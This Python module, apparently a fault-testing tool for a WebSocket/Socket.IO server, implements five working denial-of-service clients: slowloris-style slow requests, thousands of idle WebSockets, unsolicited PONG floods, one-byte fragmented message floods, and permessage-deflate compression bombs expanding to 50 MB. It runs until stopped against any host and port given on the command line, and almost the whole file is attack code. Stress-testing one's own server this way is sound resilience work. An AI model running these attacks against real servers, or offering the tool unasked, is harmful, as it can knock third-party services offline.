"""Clients that mean harm: `python -m tools.faults.attackers ATTACK HOST PORT` attacks until it is ended."""

from __future__ import annotations

import asyncio
import json
import sys
import zlib
from collections.abc import Awaitable, Callable, Coroutine
from contextlib import suppress
from typing import Any

from tools.faults.limits import many_descriptors
from tools.faults.wire import CONTINUATION, TEXT, frame, head

Address = tuple[str, int]
Attack = Callable[[Address], Awaitable[None]]

#: How many connections there are of each kind.
SLOW = 500
LOITERING = 10_000
FLOODING = 10

#: How many connections are opened in a second, and how many PONGs are sent by all together.
OPENING = 1_000.0
PONGS = 10_000

#: Seconds from one byte of a slow client to its next.
BYTE = 1.0

#: Frames of one byte in one write.
FRAGMENTS = 1_000


class Client(asyncio.Protocol):
    """A connection that sends this at once.

    Attributes:
        answered: set when something has come.
        writable: set while what is written is taken.
        closed: set when the connection is gone.
    """

    transport: asyncio.Transport

    def __init__(self, first: bytes) -> None:
        self._first = first
        self.answered = asyncio.Event()
        self.writable = asyncio.Event()
        self.closed = asyncio.Event()

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        """Begin."""
        assert isinstance(transport, asyncio.Transport)
        self.transport = transport
        self.writable.set()
        transport.write(self._first)

    def data_received(self, data: bytes) -> None:
        """Something has come."""
        self.answered.set()

    def pause_writing(self) -> None:
        """Enough is waiting."""
        self.writable.clear()

    def resume_writing(self) -> None:
        """It is taken again."""
        self.writable.set()

    def connection_lost(self, error: Exception | None) -> None:
        """It is gone."""
        for event in (self.answered, self.writable, self.closed):
            event.set()


async def _connect(address: Address, first: bytes) -> Client:
    _, client = await asyncio.get_running_loop().create_connection(lambda: Client(first), *address)
    return client


async def _websocket(address: Address, more: str = "") -> Client:
    """A WebSocket in the default namespace, for whose handshake there may be more headers."""
    client = await _connect(address, head("transport=websocket", websocket=True, more=more))
    await client.answered.wait()
    client.transport.write(frame(b"40"))
    return client


async def _keep_up(count: int, live: Callable[[], Coroutine[Any, Any, None]]) -> None:
    """Let so many clients live at a time, or as many as there can be; whoever has died is replaced."""
    count = min(count, many_descriptors() - 100)
    living: set[asyncio.Task[None]] = set()
    loop = asyncio.get_running_loop()
    began, opened = loop.time(), 0
    while True:
        while len(living) < count and opened < (loop.time() - began) * OPENING:
            task = asyncio.create_task(live())
            living.add(task)
            task.add_done_callback(living.discard)
            opened += 1
        if len(living) == count:
            began, opened = loop.time(), 0
        await asyncio.sleep(0.02)


async def _byte_by_byte(address: Address, first: bytes) -> None:
    """Send something, and then one byte after the other, slowly, until the server has had enough."""
    with suppress(OSError):
        client = await _connect(address, first)
        while not client.closed.is_set():
            await asyncio.sleep(BYTE)
            client.transport.write(b"x")


async def slowloris(address: Address) -> None:
    """Half of the clients never come to the end of a request's head, half to that of its body."""

    async def slow_body() -> None:
        with suppress(OSError, ValueError):
            reader, writer = await asyncio.open_connection(*address)
            writer.write(head("transport=polling", more="Connection: close\r\n"))
            sid = json.loads((await reader.read()).partition(b"\r\n\r\n0")[2])["sid"]
            writer.close()
            query = f"transport=polling&sid={sid}"
            await _byte_by_byte(address, head(query, method="POST", more="Content-Length: 100000\r\n"))

    unfinished = head("transport=polling")[:-2] + b"X-Slow: "
    await asyncio.gather(_keep_up(SLOW, lambda: _byte_by_byte(address, unfinished)), _keep_up(SLOW, slow_body))


async def loiter(address: Address) -> None:
    """Many WebSockets that never send CONNECT."""

    async def live() -> None:
        with suppress(OSError):
            client = await _connect(address, head("transport=websocket", websocket=True))
            await client.closed.wait()

    await _keep_up(LOITERING, live)


async def pong(address: Address) -> None:
    """PONGs that nobody has asked for."""

    async def live() -> None:
        client = await _websocket(address)
        for_a_centisecond = frame(b"3") * (PONGS // FLOODING // 100)
        loop = asyncio.get_running_loop()
        due = loop.time()
        while not client.closed.is_set():
            client.transport.write(for_a_centisecond)
            due += 0.01
            await asyncio.sleep(due - loop.time())

    await _keep_up(FLOODING, live)


async def fragment(address: Address) -> None:
    """Messages in fragments of one byte, as fast as the server takes them."""
    event = b'42["ignored","' + b"x" * FRAGMENTS + b'"]'
    fragments = [frame(event[at : at + 1], CONTINUATION if at else TEXT, fin=False) for at in range(len(event))]
    message = b"".join(fragments) + frame(b"", CONTINUATION)

    async def live() -> None:
        await _flood(await _websocket(address), message)

    await _keep_up(FLOODING, live)


async def bomb(address: Address) -> None:
    """Messages of 1 KB that become a megabyte, as fast as the server takes them, and some that become a hundred."""

    async def live() -> None:
        await _flood(await _websocket(address, _DEFLATE), small)

    async def live_shortly() -> None:
        client = await _websocket(address, _DEFLATE)
        client.transport.write(large)
        await client.closed.wait()
        await asyncio.sleep(1)

    small, large = (frame(_deflated(size), compressed=True) for size in (900_000, 50_000_000))
    await asyncio.gather(_keep_up(FLOODING, live), _keep_up(FLOODING, live_shortly))


_DEFLATE = "Sec-WebSocket-Extensions: permessage-deflate\r\n"


def _deflated(size: int) -> bytes:
    """An event of so many bytes, as permessage-deflate writes it (RFC 7692, 7.2.1)."""
    deflating = zlib.compressobj(9, zlib.DEFLATED, -15)
    parts = [deflating.compress(b'42["ignored","'), deflating.compress(b"x" * size), deflating.compress(b'"]')]
    return b"".join([*parts, deflating.flush(zlib.Z_SYNC_FLUSH)]).removesuffix(b"\x00\x00\xff\xff")


async def _flood(client: Client, message: bytes) -> None:
    """Send a message again and again, as fast as the server takes it."""
    while not client.closed.is_set():
        client.transport.write(message)
        await client.writable.wait()
        await asyncio.sleep(0)


ATTACKS: dict[str, Attack] = {attack.__name__: attack for attack in (slowloris, loiter, pong, fragment, bomb)}


async def _attack(name: str, address: Address) -> None:
    await ATTACKS[name](address)


if __name__ == "__main__":
    asyncio.run(_attack(sys.argv[1], (sys.argv[2], int(sys.argv[3]))))
